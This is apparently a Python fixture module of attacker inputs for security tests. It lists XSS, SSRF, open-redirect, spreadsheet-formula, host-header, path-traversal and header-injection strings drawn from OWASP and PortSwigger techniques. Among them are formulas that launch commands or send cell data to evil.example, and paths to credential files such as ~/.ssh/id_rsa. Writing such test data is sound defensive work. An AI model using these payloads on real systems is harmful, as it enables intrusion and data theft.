"""Inputs of attackers, by kind; each line uses another technique.

Written for these tests after the techniques in OWASP's cheat sheets (Cross Site Scripting Filter Evasion, Server Side
Request Forgery, Unvalidated Redirects) and Web Security Testing Guide, and in PortSwigger's Web Security Academy.
"""

# Scripts that call `alert` if a browser interprets them as HTML, or as the address of a link.
XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",  # mixed case, with spaces
    "<script/src=data:,alert(1)></script>",  # from an address
    "<scr<script>ipt>alert(1)</scr</script>ipt>",  # left over if a filter removes the inner one
    "<script>alert(1)//",  # never closed
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",  # slashes for spaces, no end
    "<img src=x:x onerror\t=\nalert(1)>",  # white space around the equals sign
    "<IMG SRC=x ONERROR=&#97;lert(1)>",  # written as entities
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1)</script></svg>",  # entities are decoded in foreign elements
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',  # mutation
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',  # parsed differently if scripting is off
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",  # browsers ignore tabs
    "<a href='&#1;javascript:alert(1)'>x</a>",  # and leading control characters
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",  # Markdown
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",  # Markdown's autolink
    "[x]: javascript:alert(1)\n\n[x]",
    '"><img src=x onerror=alert(1)>',  # out of an attribute
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",  # out of an element that contains only text
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",  # out of a comment
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",  # a template language in the browser
    "＜script＞alert(1)＜/script＞",  # full-width characters, which some databases normalize
    "<style>@import 'javascript:alert(1)';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
]

# Hosts on the internal network, in all notations.
SSRF = [
    "127.0.0.1",
    "localhost",
    "localhost.",  # fully qualified
    "LOCALHOST",
    "127.1",  # parts omitted
    "127.000.000.001",
    "2130706433",  # a single number
    "0x7f000001",
    "0x7f.0x0.0x0.0x1",
    "0177.0.0.1",  # octal
    "017700000001",
    "0",
    "0.0.0.0",  # noqa: S104 - nothing is bound to it
    "[::]",
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]",  # IPv4 in IPv6
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",
    "[64:ff9b::7f00:1]",  # behind NAT64
    "[2002:7f00:1::]",  # behind 6to4
    "[fe80::1%25lo]",  # of one network interface
    "[fd00:ec2::254]",  # a cloud's metadata service
    "169.254.169.254",
    "169.254.170.2",
    "100.100.100.200",
    "192.0.0.192",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "①②⑦.⓪.⓪.①",  # circled digits become digits in name preparation
    "１２７.0.0.1",  # full-width
    "127。0。0。1",  # full stops of another script
    "loc\u00adalhost",  # a soft hyphen, which is invisible
    "example.com@127.0.0.1",  # with a user name
    "127.0.0.1#@example.com",
    "127.0.0.1\\@example.com",
]

# Redirect targets, none of them our own pages.
REDIRECTS = [
    "https://evil.example/",
    "HTTPS://evil.example/",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "\\\\evil.example",
    "http:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https://testserver@evil.example/",
    "https://testserver:x@evil.example/",
    "https://testserver.evil.example/",
    "https://evil.example#testserver",
    "https://evil.example?testserver",
    "https://evil.example\\@testserver/",
    "https://evil.example\\.testserver/",
    "ftp://testserver/evil",
    "javascript:alert(1)//evil",
    "java\nscript:alert(1)//evil",
    "data:text/html,evil",
    "vbscript:evil",
    "/\t/evil.example",
    "/\n/evil.example",
    "\x00//evil.example",
    "\x01https://evil.example",
    " //evil.example",
    "\u3000//evil.example",
    "//evil.example/%2f..",
    "//evil。example",
    "//[::ffff:93.184.215.14]/evil",
    "/\r\nLocation: https://evil.example/",
]

# What spreadsheets interpret as formulas.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",  # another program
    '=HYPERLINK("https://evil.example?"&A1,"x")',  # sends the value of a cell elsewhere
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "|calc",
    " =1+1",  # after an invisible character
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",  # full-width
    "﹦1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",  # a minus sign instead of a hyphen
    '"=1+1',  # after a quotation mark
    '"",=1+1',
    ",=1+1",  # after any separator of cells
    ";=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\u2028=1+1",
    'x;" =1+1',
]

# Host names that are not ours.
HOSTS = [
    "evil.example",
    "testserver.evil.example",
    "evil.example:80",
    "testserver:80@evil.example",
    "testserver@evil.example",
    "testserver#evil.example",
    "testserver/evil.example",
    "testserver?evil.example",
    "testserver\\evil.example",
    "testserver evil.example",
    "testserver,evil.example",
    "testserver;evil.example",
    "testserver:evil.example",
    "testserver:80:evil",
    "testserver:-1",
    "testserver%00.evil.example",
    "testserver\x00.evil.example",
    "testserver\tevil",
    "eviltestserver",
    "testserver..",
    ".testserver.evil",
    "testserver'\"><script>",
    "[::1]evil.example",
    "[evil.example]",
    "xn--testserver-evil",
    "127.0.0.2",
    "0x7f000001",
    "tеstserver",  # with a letter from another script
]

# Paths out of a folder, as file name or as part of an address.
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//etc/passwd",
    "\\\\evil.example\\share\\x",  # on another machine
    "C:\\windows\\win.ini",
    "C:win.ini",
    "file:///etc/passwd",
    "....//....//etc/passwd",  # left over if a filter removes the inner ones
    "..././..././etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "%252e%252e%252fetc/passwd",  # encoded twice
    "..%c0%af..%c0%afetc/passwd",  # overlong UTF-8
    "..%ef%bc%8fetc/passwd",  # a full-width slash
    "..／..／etc/passwd",
    "．．/．．/etc/passwd",
    "..;/..;/etc/passwd",
    "./././../etc/passwd",
    "a/../../etc/passwd",
    "../../etc/passwd\x00.png",  # truncated at the NUL
    "../../etc/passwd%00.png",
    "../.env",
    ".htaccess",
    "..",
    ".",
    "~/.ssh/id_rsa",
    "/proc/self/environ",
    "con.txt",  # a device name on Windows
    "a.txt::$DATA",
    "passwd\u202egnp.txt",  # reversed by a right-to-left override
]

# Texts that would start a new header line.
HEADERS = [
    "a\r\nX-Evil: 1",
    "a\nX-Evil: 1",
    "a\rX-Evil: 1",
    "a\r\n\r\n<script>X-Evil: 1</script>",  # with a body of its own
    "a\r\n X-Evil: 1",  # like a folded header
    "a\n\tX-Evil: 1",
    "\r\nX-Evil: 1",
    "a\r\n",
    "a\x00\r\nX-Evil: 1",
    "a\x0bX-Evil: 1",
    "a\x0cX-Evil: 1",
    "a\x1cX-Evil: 1",  # Python's splitlines splits here
    "a\x1dX-Evil: 1",
    "a\x1eX-Evil: 1",
    "a\x85X-Evil: 1",
    "a\u2028X-Evil: 1",
    "a\u2029X-Evil: 1",
    "a\u560d\u560aX-Evil: 1",  # letters whose last bytes are CR and LF
    "a%0d%0aX-Evil: 1",
    "a\\r\\nX-Evil: 1",
    "=?utf-8?q?a=0D=0AX-Evil:_1?=",  # an encoded word, as in e-mail headers
    'a"; filename="X-Evil',  # out of a quoted string
    "a\r\nBcc: evil@example.com",
    "a\r\nSubject: X-Evil",
    "a>\r\nRCPT TO:<evil@example.com>",
]
